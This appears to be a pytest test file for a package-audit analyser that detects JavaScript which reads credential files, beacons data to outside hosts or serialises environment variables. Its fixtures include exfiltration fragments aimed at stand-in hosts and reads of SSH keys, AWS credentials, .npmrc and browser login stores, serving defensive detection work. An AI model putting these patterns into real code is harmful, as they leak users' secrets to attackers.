"""Places and addresses that code names away from a power: silent texts, then those that are told."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from support.packages import VOCABULARY, analysed, contents, facts_of

from audit.analysis import Analyser
from audit.capabilities import mentions
from audit.model.mention import MENTION, TOLD_PICTURE

if TYPE_CHECKING:
    from pathlib import Path

REQUIRE = "const http = require('http-x'); "
PAGE = "document.title; "


def told(code: str) -> list[tuple[str, str, str]]:
    """Return what is told but for addresses that stand as values: see test_addresses.py."""
    found = mentions(analysed(contents({"index.js": code})))
    told = [(each.mentioned.value, each.to, each.text) for each in found]
    return [each for each in told if each[0] not in {"address", "computed", "recipient", "written"}]


SILENT = {
    "a comment": "require('fs') // read('/home/u/.npmrc')\n/* '.ssh/id_rsa' */",
    "a regular expression": "require('fs'); /\\/.ssh/.test(x)",
    "a sentence": "require('fs'); console.log('# add this to your ~/.bashrc or ~/.zshrc: eval x')",
    "names that a server refuses": "require('fs'); f({ deny: ['.env', '*.{pem,key}', '.npmrc', '**/.envrc'] })",
    "names that are passed by": (
        "require('fs'); const OUT = new Set(['.git', '.npmrc', 'id_rsa'])\n"
        "for (const e of f(d)) { if (e.skip || OUT.has(e.name)) continue; read(e) }"
    ),
    "names that a filter leaves out": (
        "require('fs'); const OUT = ['.git', '.ssh']; f(d).filter((n) => !OUT.some((o) => o === n))"
    ),
    "a member": "require('fs'); config.ssh.npmrc = a.aws",
    "no code that does anything": "module.exports = '/home/u/.npmrc'",
    "an extension": "require('fs'); read('index.profile.js'); f('a.azure')",
    "a link that people follow": PAGE + "a.href = 'https://docs.example/x'",
    "the same place": PAGE + "img.src = './a.png'; img.src = url",
    "an address of data": PAGE + "img.src = 'data:image/png;base64,AAAA'",
    "no page": "require('fs'); job.src = 'https://a.example/x'",
    "compared": PAGE + "if (img.src == 'https://a.example/x') f()",
    "a file of its own": "const http = require('./http'); http.get('https://a.example/x')",
    "a message": REQUIRE + "throw new Error('https://docs.example/why')",
    "a later argument": REQUIRE + "http.get(x, 'https://a.example/x')",
    "another name": REQUIRE + "https.get('https://a.example/x'); xhttp.get('https://b.example')",
    "a comment before it": REQUIRE + "// http.get('https://a.example/x')",
}


@pytest.mark.parametrize("code", SILENT.values(), ids=SILENT)
def test_silent(code: str) -> None:
    assert told(code) == []


PATHS = {
    "beside no power": ("read('.npmrc')", ".npmrc"),
    "in a folder": ('read("/home/u/.ssh/id_rsa")', "/home/u/.ssh/id_rsa"),
    "after a substitution": ("read(`${home}/.aws/credentials`)", "${home}/.aws/credentials"),
    "at the beginning of a template": ("read(`/proc/${pid}/mem`)", "/proc/${pid}/mem"),
    "in a list": ("for (const f of ['a', '/.netrc']) read(f)", "/.netrc"),
    "after a list of what is left out": ("f({ ignore: ['a'], of: ['.npmrc'] })", ".npmrc"),
    "a path that is left out": ("f({ ignore: ['~/.npmrc'] })", "~/.npmrc"),
    "in a list of what is looked for": (
        "const IN = ['.npmrc']; for (const n of f(d)) { if (!IN.includes(n)) continue; read(n) }",
        ".npmrc",
    ),
    "in a list that a filter keeps": (
        "const IN = ['.npmrc']; f(d).filter((n) => !!IN.includes(n))",
        ".npmrc",
    ),
    "in a list that is gone through too": (
        "const OUT = ['.npmrc']; for (const n of f(d)) if (OUT.includes(n)) continue; OUT.map(read)",
        ".npmrc",
    ),
    "in a list that nothing asks": ("const OUT = ['.npmrc']; read(x)", ".npmrc"),
    "in a call within such a list": ("f({ deny: [read('.npmrc')] })", ".npmrc"),
    "with spaces": ("read(a + '/User Data/Login Data')", "/User Data/Login Data"),
    "a key": ("add('.ssh/authorized_keys')", ".ssh/authorized_keys"),
}


@pytest.mark.parametrize(("code", "text"), PATHS.values(), ids=PATHS)
def test_a_path(code: str, text: str) -> None:
    assert told(f"const read = require('./r'); {code}") == [("path", "", text)]


ELEMENTS = {
    "assigned": ("s.src = 'https://a.invalid/x.js'", "src", "https://a.invalid/x.js"),
    "with a query": ("new Image().src = `https://a.invalid/?${c}`", TOLD_PICTURE, "https://a.invalid/?"),
    "with a query that is added": ("(new Image).src = '//a.invalid/p?' + c", TOLD_PICTURE, "//a.invalid/p?"),
    "a picture that stays": ("new Image().src = 'https://a.invalid/x.png'", "src", "https://a.invalid/x.png"),
    "joined": ("f.action = 'https://a.invalid/' + id", "action", "https://a.invalid/"),
    "without a scheme": ("s.src = '//a.invalid/x.js'", "src", "//a.invalid/x.js"),
    "through a name": ("const HOST = 'https://a.invalid/x'; s.src = HOST", "src", "https://a.invalid/x"),
    "set": ("e.setAttribute('src', \"https://a.invalid\")", "src", "https://a.invalid"),
    "in markup": ("e.innerHTML = '<iframe src=\"https://a.invalid/i\">'", "src", "https://a.invalid/i"),
    "in an object": (
        "Object.assign(document.createElement('script'), { async: true, src: 'https://a.invalid' })",
        "src",
        "https://a.invalid",
    ),
    "in compiled markup": ("jsx('img', { src: 'https://a.invalid/?' + v })", "src", "https://a.invalid/?"),
    "in a style": ("s.textContent = 'b{background:url(https://a.invalid/b)}'", "url", "https://a.invalid/b"),
    "the page itself": ("location = 'https://a.invalid/p'", "location", "https://a.invalid/p"),
    "where the page goes": ("location.replace('https://a.invalid/p')", "location.replace", "https://a.invalid/p"),
    "a style sheet": (
        "const l = document.createElement('link'); l.href = 'https://a.invalid/s'",
        "href",
        "https://a.invalid/s",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("code", "attribute", "address"), ELEMENTS.values(), ids=ELEMENTS)
def test_an_element(code: str, attribute: str, address: str) -> None:
    assert told(PAGE + code) == [("element", attribute, address)]


JOINED = {
    "a part before the host": (
        "i.src = '//' + btoa(x).slice(0, 9) + '.t.invalid/a'",
        "src",
        "//t.invalid/",
    ),
    "a template": ("i.src = `https://${code(x)}.t.invalid`", "src", "//t.invalid/"),
    "the host in two": ("i.src = 'https://a.inv' + 'alid/?' + x", "src", "//a.invalid/"),
    "a list": ("i.src = ['ht', 'tps:/', '/a.inv', 'alid/', x].join('')", "src", "//a.invalid/"),
    "a chain over lines": (
        "img.src =\n  '//' +\n  btoa(\n    x,\n  )\n    .slice(\n      0,\n      60,\n    ) +\n  '.t.invalid'",
        "src",
        "//t.invalid/",
    ),
    "the page itself": ("location.href = '//' + x + '.t.invalid'", "location", "//t.invalid/"),
}
NOT_JOINED = {
    "a host that is not constant": "i.src = 'https://' + host + '/a.png'",
    "its end is not constant": "i.src = 'ht' + 'tps://cdn.' + domain + '/a.png'",
    "a path": "i.src = base + '/a.png'; i.src = './' + name + '.png'",
    "a link that people follow": "a.href = '//' + x + '.t.invalid'",
    "no element": "x = '//' + y + '.t.invalid'",
}


@pytest.mark.parametrize(("code", "attribute", "address"), JOINED.values(), ids=JOINED)
def test_an_address_in_pieces(code: str, attribute: str, address: str) -> None:
    assert ("element", attribute, address) in told(PAGE + code)


@pytest.mark.parametrize("code", NOT_JOINED.values(), ids=NOT_JOINED)
def test_no_address_in_pieces(code: str) -> None:
    assert told(PAGE + code) == []


MADE = {
    "JSON": "JSON.stringify(process.env)",
    "with more": "f(JSON.stringify({ ok: g(1), env: process.env }))",
    "a query": "new URLSearchParams(process.env).toString()",
    "bytes": "v8.serialize({ ...process.env })",
    "a list": "Object.entries(process.env).map(([k, v]) => k + v).join('&')",
}
NOT_MADE = {
    "one variable": "JSON.stringify(process.env.HOME); JSON.stringify(process.env['X'])",
    "beside it": "JSON.stringify(a); spawn(b, { env: process.env })",
    "those of a prefix": "Object.entries(process.env).filter(([k]) => k.startsWith('APP_')).join()",
    "a comment": "process.env.A // JSON.stringify(process.env)",
    "for a child": "fork(a, { env: { ...process.env, A: JSON.stringify(b) } })",
}


@pytest.mark.parametrize("code", MADE.values(), ids=MADE)
def test_a_text_of_the_environment(code: str) -> None:
    assert told(code) == [("environment", "", "process.env")]


@pytest.mark.parametrize("code", NOT_MADE.values(), ids=NOT_MADE)
def test_no_text_of_the_environment(code: str) -> None:
    assert told(code) == []


HANDED = {
    "a member": REQUIRE + "http.post('https://a.invalid/x', key)",
    "called itself": REQUIRE + "http('https://a.invalid/x')",
    "in options": REQUIRE + "http({ method: 'POST', url: 'https://a.invalid/x' })",
    "imported": "import http from 'http-x'; http.post('https://a.invalid/x')",
    "a part": "import { post as send } from 'http-x'; send('https://a.invalid/x')",
    "taken apart": "const { post } = require('http-x'); post('https://a.invalid/x')",
    "compiled": "var h_1 = __importDefault(require('http-x')); (0, h_1.default)('https://a.invalid/x')",
    "through a name": REQUIRE + "const HOOK = 'https://a.invalid/x'; http.post(HOOK, data)",
    "in a template": REQUIRE + "const HOOK = 'https://a.invalid/x'; http.post(`${HOOK}/${id}`)",
}


def test_a_host_handed_to_another_package() -> None:
    code = "const { connect } = require('smtp-x'); connect({ port: 25, host: 'smtp.a.invalid' })"
    assert told(code) == [("handed", "smtp-x", "//smtp.a.invalid")]


@pytest.mark.parametrize("code", HANDED.values(), ids=HANDED)
def test_handed_to_another_package(code: str) -> None:
    assert ("handed", "http-x", "https://a.invalid/x") in told(code)


def test_a_place_in_code_that_is_loaded_stands_for_all() -> None:
    files = {"a.js": "require('fs'); f('.npmrc')", "index.js": "require('fs'); f('.npmrc')"}
    (found,) = mentions(analysed(contents(files)))
    assert (found.evidence.file, found.evidence.reachable) == ("index.js", True)


def test_only_a_comparison_looks_for_what_is_named_away_from_a_power(tmp_path: Path) -> None:
    """A check would pay for what no rule of it asks for; what both look for is read once."""
    package = {
        "x": contents({"index.js": "require('fs'); " + " " * 5000 + "read('/home/u/.npmrc')"})
    }
    plain, compared = (
        facts_of(Analyser(VOCABULARY, cache=str(tmp_path), compared=compared), package)["x"]
        for compared in (False, True)
    )
    assert mentions(plain) == ()
    assert [each.text for each in mentions(compared)] == ["/home/u/.npmrc"]
    assert [each for each in compared.facts if each.fact.kind != MENTION] == list(plain.facts)
